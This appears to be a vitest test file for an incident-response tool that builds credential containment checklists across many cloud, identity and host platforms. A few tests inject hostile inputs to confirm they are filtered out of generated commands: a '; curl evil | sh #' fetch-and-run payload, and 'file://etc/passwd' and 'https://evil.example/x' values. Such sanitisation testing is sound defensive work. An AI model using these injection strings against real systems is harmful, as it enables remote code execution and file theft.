/** A case per credential kind, with values and holders as the readers write them, through the whole plan. */
import { describe, expect, test } from 'vitest';
import type { Step } from '../../../shared/domain/checklist.ts';
import { CREDENTIAL_KINDS, type CredentialKind } from '../../../shared/domain/kinds.ts';
import { buildChecklist, type ChecklistInput } from '../../../electron/checklist/plan.ts';
import { role, traceOf, user, type Drawn, type Story } from './trace-builder.ts';

const APP = '2f6d1c84-90ab-4e57-8c3d-5a7b9e1f0d23';
const KEY = 'c4a9e2f1-7b3d-4d86-95e0-8f1a2b3c4d5e';
const SA = 'deployer@orders-prod.iam.gserviceaccount.com';

interface Kind { readonly platform: string; readonly value: string; readonly holder: string | undefined; /** What the commands have to hold. */ readonly says: readonly string[] }

/** As the READMEs of the readers say. `aws-*` stands for itself: `plan.test.ts` looks at those. */
const KINDS: Readonly<Partial<Record<CredentialKind, readonly Kind[]>>> = {
  'entra-client-secret': [{ platform: 'entra', value: KEY, holder: `entra:app:${APP}`, says: [`az ad app credential delete --id ${APP} --key-id ${KEY}`, `az ad sp update --id ${APP} --set accountEnabled=false`] }],
  'entra-client-certificate': [{ platform: 'entra', value: KEY, holder: `entra:app:${APP}`, says: [`--id ${APP} --key-id ${KEY}`] }],
  'entra-federated-credential': [
    { platform: 'entra', value: KEY, holder: `entra:app:${APP}`, says: [`federated-credential delete --id ${APP} --federated-credential-id ${KEY}`] },
    { platform: 'azure', value: '/subscriptions/s1/resourcegroups/rg-build/providers/microsoft.managedidentity/userassignedidentities/build/federatedidentitycredentials/main', holder: '/subscriptions/s1/resourcegroups/rg-build/providers/microsoft.managedidentity/userassignedidentities/build', says: ['az identity federated-credential delete --name main --identity-name build --resource-group rg-build'] },
  ],
  'entra-managed-identity': [{ platform: 'azure', value: `managed-identity:${APP}`, holder: APP, says: [`az role assignment list --assignee ${APP} --all`] }],
  'entra-session': [{ platform: 'entra', value: '3b9f7c21-5d84-4e06-a1c3-7f2e8d4b6a90', holder: 'dana@example.com', says: ['/users/dana@example.com/revokeSignInSessions', 'az ad user update --id dana@example.com --account-enabled false'] }],
  'entra-token': [
    { platform: 'entra', value: 'TioMbx2Lf0yaNdLk9ggaAA', holder: 'dana@example.com', says: ['/users/dana@example.com/revokeSignInSessions'] },
    { platform: 'entra', value: 'TioMbx2Lf0yaNdLk9ggaAB', holder: `entra:app:${APP}`, says: [`az ad sp update --id ${APP} --set accountEnabled=false`] },
  ],
  'azure-storage-key': [{ platform: 'azure', value: 'plansstore/key1', holder: undefined, says: ['--account-name plansstore', '--key key1'] }],
  'azure-sas': [{ platform: 'azure', value: 'c2lnbmF0dXJlZXhhbXBsZQ==', holder: undefined, says: ['az storage account revoke-delegation-keys'] }],
  'gcp-service-account-key': [{ platform: 'gcp', value: 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678', holder: SA, says: [`gcloud iam service-accounts keys disable a1b2c3d4e5f60718293a4b5c6d7e8f9012345678 --iam-account=${SA}`, `gcloud iam service-accounts disable ${SA}`] }],
  'gcp-access-token': [{ platform: 'gcp', value: `${SA} as delegated by service-1@gcp-sa-run.iam.gserviceaccount.com`, holder: SA, says: [`gcloud iam service-accounts disable ${SA}`] }],
  'gcp-impersonation': [{ platform: 'gcp', value: `${SA} as delegated by alice@example.com`, holder: SA, says: [`remove-iam-policy-binding ${SA} --member=<member that stands for alice@example.com>`] }],
  'gcp-federated-token': [{ platform: 'gcp', value: 'principal://iam.googleapis.com/projects/12/locations/global/workloadIdentityPools/github/subject/repo:o/n', holder: undefined, says: ['--workload-identity-pool=github --location=global --project=12'] }],
  'google-session': [{ platform: 'google-workspace', value: 'google-dusi:1', holder: 'alice@example.com', says: ['/users/alice@example.com/signOut'] }],
  'okta-session': [{ platform: 'okta', value: '102aliceSESSION', holder: 'alice@example.com', says: ['/users/alice@example.com/sessions?oauthTokens=true', '/users/alice@example.com/lifecycle/suspend'] }],
  'okta-api-token': [{ platform: 'okta', value: '00Ttoken1', holder: 'alice@example.com', says: ['/api-tokens/00Ttoken1'] }],
  'okta-oauth-client': [{ platform: 'okta', value: '0oaclient1', holder: '0oaclient1', says: ['/apps/0oaclient1/lifecycle/deactivate'] }],
  'github-token': [{ platform: 'github', value: '3q2+7wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=', holder: 'github:octo-dev', says: ['phrase=hashed_token:3q2+7wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=', '/users/octo-dev/keys'] }],
  'github-installation': [{ platform: 'github', value: 'github:installation/77', holder: 'github:app/deployer', says: ['/app/installations/77/suspended'] }],
  'github-oauth-authorization': [{ platform: 'github', value: '3q2+8w=', holder: 'github:octo-dev', says: ['/applications/<client id>/grant'] }],
  'github-deploy-key': [{ platform: 'github', value: 'SHA256:abcd', holder: 'github:deploy-key/example/app', says: ['/repos/example/app/keys'] }],
  'github-workflow-token': [{ platform: 'github', value: 'gwt=', holder: 'github:github-actions[bot]', says: ['gh run cancel <run> --repo <repo>'] }],
  'gitlab-token': [
    { platform: 'gitlab', value: 'gitlab:token/7', holder: 'gitlab:user/42', says: ['/personal_access_tokens/7', '/users/42/keys'] },
    { platform: 'gitlab', value: 'gitlab:deploy-token/9', holder: undefined, says: ['/deploy_tokens/9'] },
  ],
  'gitlab-job-token': [{ platform: 'gitlab', value: 'gitlab:job/11', holder: 'gitlab:user/42', says: ['/jobs/11/cancel'] }],
  'kubernetes-token': [{ platform: 'kubernetes', value: 'JTI=7d1f0c52-0000-4000-8000-00000000d001', holder: 'prod/system:serviceaccount:payments:api', says: ['kubectl -n payments delete serviceaccount api'] }],
  'kubernetes-certificate': [{ platform: 'kubernetes', value: 'X509SHA256=aa11', holder: 'kubernetes:admin', says: ['kubectl get rolebindings,clusterrolebindings -A'] }],
  'kubernetes-static-token': [{ platform: 'kubernetes', value: 'secret:prod/payments/api-token', holder: 'prod/system:serviceaccount:payments:api', says: ['kubectl -n payments delete secret api-token'] }],
  'vault-token': [
    { platform: 'vault', value: 'hmac-sha256:66486f51', holder: 'vault:entity/20000000-0000-4000-8000-000000000001', says: ['vault token revoke -accessor <accessor>', 'identity/entity/id/20000000-0000-4000-8000-000000000001 disabled=true'] },
    { platform: 'vault', value: 'AbCdEfGhIjKlMnOpQrStUvWx', holder: 'vault:userpass-alice', says: ['vault token revoke -accessor AbCdEfGhIjKlMnOpQrStUvWx'] },
  ],
  'vault-lease': [{ platform: 'vault', value: 'database/creds/readonly/27e1b9a1', holder: undefined, says: ['vault lease revoke -sync database/creds/readonly/27e1b9a1', '-prefix database/creds/readonly/'] }],
  'vault-approle-secret': [{ platform: 'vault', value: 'hmac-sha256:77', holder: 'vault:approle-ci', says: ['secret-id-accessor/destroy'] }],
  'vault-wrapping-token': [{ platform: 'vault', value: 'hmac-sha256:78', holder: undefined, says: ['vault token revoke -accessor <accessor>'] }],
  'windows-logon-session': [{ platform: 'windows', value: 'web01.corp.example:0x3e7abc', holder: 'corp\\svc-build', says: ['Disable-ADAccount -Identity svc-build', 'klist -li 0x3e7abc purge', '/server:web01.corp.example'] }],
  'kerberos-logon': [{ platform: 'windows', value: '11111111-2222-4333-8444-555555555501', holder: 'corp\\svc-build', says: ['Set-ADAccountPassword -Identity svc-build -Reset'] }],
  'ntlm-exchange': [{ platform: 'windows', value: 'zeek:C1:ntlm', holder: 'corp\\svc-build', says: ['Set-ADAccountPassword -Identity svc-build -Reset'] }],
  'ssh-session': [{ platform: 'linux', value: 'web01:sshd[2001]@2024-03-01T10:00:01Z', holder: 'web01:deploy', says: ['ps -o pid,ppid,user,lstart,args -p 2001', 'usermod --lock --expiredate 1 deploy'] }],
  'linux-audit-session': [{ platform: 'linux', value: 'web01:ses=7@1709287200.123', holder: 'web01:deploy', says: ['loginctl terminate-session 7'] }],
  'ssh-key': [
    { platform: 'linux', value: 'SHA256:abcdEXAMPLE', holder: 'web01:deploy', says: ['grep -nF SHA256:abcdEXAMPLE'] },
    { platform: 'github', value: 'SHA256:abcdEXAMPLE', holder: 'github:octo-dev', says: ['/users/octo-dev/keys'] },
    { platform: 'gitlab', value: 'gitlab:key/5', holder: 'gitlab:user/42', says: ['/users/42/keys/5'] },
  ],
  password: [
    { platform: 'entra', value: 'password:dana@example.com', holder: 'dana@example.com', says: ['az ad user update --id dana@example.com --password <new password>'] },
    { platform: 'google-workspace', value: 'password:google:alice@example.com', holder: 'alice@example.com', says: ['/users/alice@example.com/signOut'] },
    { platform: 'okta', value: 'password:alice@example.com', holder: 'alice@example.com', says: ['/users/alice@example.com/lifecycle/expire_password'] },
    { platform: 'windows', value: 'password:corp\\svc-build', holder: 'corp\\svc-build', says: ['Set-ADAccountPassword -Identity svc-build'] },
    { platform: 'linux', value: 'password:web01:deploy', holder: 'web01:deploy', says: ['passwd deploy'] },
    { platform: 'keycloak', value: 'password:alice', holder: 'alice', says: [] },
  ],
  'oauth-token': [
    { platform: 'google-workspace', value: 'google-oauth:4444.apps.googleusercontent.com:alice@example.com', holder: 'alice@example.com', says: ['/users/alice@example.com/tokens/4444.apps.googleusercontent.com'] },
    { platform: 'okta', value: 'AT.1', holder: 'alice@example.com', says: ['/users/alice@example.com/clients/<client id>/tokens'] },
    { platform: 'slack', value: 'T1', holder: 'U1', says: [] },
    { platform: 'auth0', value: 'auth0:token/abc123', holder: 'auth0:client/c1', says: ['/rotate-secret'] },
  ],
  'api-key': [
    { platform: 'gcp', value: 'projects/12/locations/global/keys/k-1', holder: undefined, says: ['gcloud services api-keys delete projects/12/locations/global/keys/k-1'] },
    { platform: 'gcp', value: 'GOOG1EXAMPLE', holder: SA, says: ['gcloud storage hmac update GOOG1EXAMPLE --deactivate'] },
    { platform: 'cloudflare', value: 'k1', holder: 'ops', says: [] },
    { platform: 'openai', value: 'key_abc', holder: 'user-1', says: ['/api_keys/key_abc'] },
  ],
  certificate: [
    { platform: 'windows', value: 'certificate-serial:6a00', holder: 'corp\\svc-build', says: ['certutil -revoke 6a00 1'] },
    { platform: 'windows', value: 'key-credential:cn=svc,dc=corp,dc=example', holder: undefined, says: ['msDS-KeyCredentialLink'] },
    { platform: 'vault', value: 'serial:39:dd:2e', holder: undefined, says: ['serial_number=39:dd:2e'] },
    { platform: 'network', value: 'cert1', holder: undefined, says: [] },
  ],
  'snowflake-key': [{ platform: 'snowflake', value: 'SHA256:snow', holder: 'snowflake:user/ETL', says: ['ALTER USER ETL UNSET RSA_PUBLIC_KEY;'] }],
  token: [
    { platform: 'databricks', value: 't1', holder: 'etl@example.com', says: ['databricks token-management delete t1'] },
    { platform: 'databricks', value: 'databricks:session/s1', holder: 'etl@example.com', says: [] },
    { platform: 'slack', value: 'slack:session/847288190092', holder: 'slack:U0EXAMPLE', says: ['admin.users.session.reset?user_id=U0EXAMPLE'] },
    { platform: 'snowflake', value: 'snowflake:session/123456', holder: 'snowflake:user/ETL', says: ['ALTER USER ETL SET DISABLED = TRUE;', 'SELECT SYSTEM$ABORT_SESSION(123456);'] },
    { platform: 'snowflake', value: 'snowflake:login/77', holder: 'snowflake:user/ETL', says: ['SHOW USER PROGRAMMATIC ACCESS TOKENS FOR USER ETL;'] },
    { platform: 'auth0', value: 'auth0:session/s-1', holder: 'auth0:user/auth0|1', says: ['/api/v2/sessions/s-1'] },
    { platform: 'teleport', value: 'teleport:session/11111111-2222-4333-8444-555555555501', holder: 'teleport:example/bob', says: ['tctl lock --user=bob'] },
    { platform: 'docker-hub', value: 'd1', holder: 'alice', says: [] },
  ],
  'device-token': [{ platform: 'duo', value: 'duo:token/1', holder: 'alice', says: [] }],
  'generic-secret': [{ platform: 'kubernetes', value: 'secret:payments/db', holder: undefined, says: [] }],
  'database-password': [{ platform: 'supabase', value: 'password of db/app', holder: 'app', says: [] }],
  unknown: [{ platform: 'keycloak', value: 'x1', holder: undefined, says: [] }],
};

const planOf = (story: Story, more: Partial<ChecklistInput> = {}) =>
  buildChecklist({ trace: traceOf(story), lives: [], inventory: [], attestations: [], custody: { files: 2, ledgerHead: 'abc' }, laterUses: new Map(), caseName: 'c', ...more });
const commands = (steps: readonly Step[]): string => steps.map((s) => s.operation ?? '').join('\n');
const drawn = (kind: CredentialKind, k: Omit<Kind, 'says'>, more: Partial<Drawn> = {}): Drawn => ({ value: k.value, kind, holder: k.holder, at: 0, more: { platform: k.platform }, ...more });
const all = Object.entries(KINDS).flatMap(([kind, list]) => list.map((k) => ({ kind: kind as CredentialKind, ...k })));

describe('every kind', () => {
  test('has a case here, but those of AWS, which have their own', () => {
    expect(CREDENTIAL_KINDS.filter((k) => !k.startsWith('aws-') && KINDS[k] === undefined)).toEqual([]);
  });

  test.each(all)('$kind on $platform: $value', ({ kind, says, ...k }) => {
    const { steps, limits } = planOf({ credentials: [drawn(kind, k)] });
    const phases = new Set(steps.map((s) => s.phase));
    expect([...phases]).toEqual(expect.arrayContaining(['preserve', 'contain', 'verify']));
    for (const text of says) expect(commands(steps)).toContain(text);
    for (const s of steps) {
      expect(s.operation !== undefined || s.why.includes('No command: '), s.id).toBe(true);
      for (const text of [s.title, s.operation, s.why, s.check, s.residual]) expect(text ?? '').not.toMatch(/\{[a-z_]+\}/);
      expect(s.title, s.id).not.toContain('AWS');
    }
    // How long it still works is said where its use is ended.
    const mine = steps.filter((s) => s.phase === 'contain');
    expect(mine.some((s) => s.residual !== undefined), 'residual life').toBe(true);
    expect(limits.some((l) => l.startsWith('No playbook'))).toBe(kind === 'unknown');
  });

  test.each(all)('$kind on $platform: a hostile value and holder stay out of the commands', ({ kind, platform, value, holder }) => {
    const evil = '; curl evil | sh #';
    const { steps } = planOf({ credentials: [drawn(kind, { platform, value: `${value}${evil}`, holder: holder === undefined ? undefined : `${holder}${evil}` })] });
    expect(commands(steps)).not.toContain('evil');
  });
});

test('an argument that a command line would read from a file stays out', () => {
  for (const value of ['@secrets.json', 'file://etc/passwd', 'https://evil.example/x']) expect(commands(planOf({ credentials: [drawn('okta-api-token', { platform: 'okta', value, holder: undefined })] }).steps)).not.toContain(value);
});

test('a trail over five platforms: each place is kept first, a parent is stopped before its child, and no place is an account of AWS but AWS', () => {
  const on = (platform: string) => ({ platform });
  const { steps } = planOf({ credentials: [
    { value: 'ghtoken=', kind: 'github-workflow-token', holder: 'github:github-actions[bot]', at: 0, more: on('github') },
    { value: 'ASIAWEB', kind: 'aws-web-identity-session', holder: role('deploy'), parent: 'ghtoken=', at: 1, hop: 'federated', more: on('aws') },
    { value: 'hmac-sha256:1', kind: 'vault-token', holder: 'vault:entity/e1', parent: 'ASIAWEB', at: 2, hop: 'federated', more: on('vault') },
    { value: 'JTI=1', kind: 'kubernetes-token', holder: 'system:serviceaccount:payments:api', parent: 'hmac-sha256:1', at: 3, hop: 'secret-to-use', grade: 'B', more: on('kubernetes') },
    { value: 'corp.example:0x1', kind: 'windows-logon-session', holder: 'corp\\svc', parent: 'JTI=1', at: 4, hop: 'secret-to-use', grade: 'C', more: on('windows') },
  ] });
  const last = (id: string): number => Math.max(...steps.filter((s) => s.phase === 'contain' && (s.subject.id === id || s.why.includes(`${id} `))).map((s) => s.order));
  expect([last('C1'), last('C2'), last('C3'), last('C4'), last('C5')]).toEqual([last('C1'), last('C2'), last('C3'), last('C4'), last('C5')].toSorted((a, b) => a - b));
  const kept = steps.filter((s) => s.phase === 'preserve' && s.subject.kind === 'system').map((s) => s.subject.name);
  expect(new Set(kept)).toEqual(new Set(['AWS account 111122223333', 'GitHub', 'Kubernetes', 'Vault', 'Windows']));
  const first = steps.find((s) => s.phase === 'contain');
  expect(Math.max(...steps.filter((s) => s.phase === 'preserve').map((s) => s.order))).toBeLessThan(first?.order ?? 0);
});

describe('identities the lineage made', () => {
  const made = (name: string, platform: string, kind: CredentialKind, value: string) => planOf({
    credentials: [{ value: 'SEED', kind: 'token', holder: user('ci'), at: 0, more: { platform } }, { value, kind, holder: name, parent: 'SEED', at: 1, hop: 'planted', uses: 0, more: { platform } }],
    identities: [{ name, how: 'created' }],
  });
  test.each([
    [`entra:app:${APP}`, 'entra', 'entra-client-secret', KEY, `az ad app delete --id ${APP}`], [SA, 'gcp', 'gcp-service-account-key', 'k1', `gcloud iam service-accounts delete ${SA}`],
    ['evil@example.com', 'okta', 'okta-session', 's1', '/users/evil@example.com'], ['system:serviceaccount:kube-system:evil', 'kubernetes', 'kubernetes-token', 'JTI=9', 'kubectl -n kube-system delete serviceaccount evil'],
    ['corp\\evil', 'windows', 'windows-logon-session', 'h:0x1', 'Remove-ADUser -Identity evil'], ['web01:evil', 'linux', 'ssh-session', 'web01:sshd[1]@x', 'userdel evil'],
  ] as const)('%s is stopped and deleted, and gets nothing back', (name, platform, kind, value, command) => {
    const { steps } = made(name, platform, kind, value);
    expect(commands(steps)).toContain(command);
    expect(steps.filter((s) => s.phase === 'recover' && s.subject.name === name)).toEqual([]);
    expect(steps.filter((s) => s.subject.name === name && s.phase === 'contain').every((s) => s.breaks.startsWith('Nothing'))).toBe(true);
  });
});
